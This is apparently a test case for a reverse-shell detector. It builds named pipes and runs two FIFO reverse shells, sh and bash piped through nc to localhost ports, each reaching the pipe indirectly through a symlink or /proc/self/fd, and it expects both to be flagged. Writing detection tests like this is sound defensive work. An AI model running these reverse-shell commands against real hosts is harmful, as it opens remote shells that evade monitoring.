# R02d: sh and bash run a FIFO by another name
# stage: behaviour
# expect: reverse_shell_detected
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.process_id: $nc
#   reverse_shell.process_list.1.process_id: $shell
# expect: reverse_shell_detected
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.process_id: $net
#   reverse_shell.process_list.1.process_id: $other

#: prepare
. lib/peers.sh
peer 4462; peer 4472; rm -f /tmp/r02d*; mkfifo /tmp/r02d /tmp/r02d-2; ln -s r02d /tmp/r02d-link
#: act
. lib/peers.sh
act
(sh /tmp/r02d-link 2>&1 | nc 127.0.0.1 4462 > /tmp/r02d) < /dev/null > /dev/null 2>&1 &
who shell 'sh /tmp/r02d-link'; who nc 'nc 127.0.0.1 4462'
await 'at $shell 10 /tmp/r02d && same $shell 1 $nc 0 && at $nc 1 /tmp/r02d && at $nc 3 socket:*'
(bash /proc/self/fd/7 7< /tmp/r02d-2 2>&1 |
  nc 127.0.0.1 4472 > /tmp/r02d-2) < /dev/null > /dev/null 2>&1 &
who other 'bash /proc/self/fd/7'; who net 'nc 127.0.0.1 4472'
await 'at $other 255 /tmp/r02d-2 && same $other 1 $net 0'
await 'at $net 1 /tmp/r02d-2 && at $net 3 socket:*'
#: clean
rm -f /tmp/r02d*
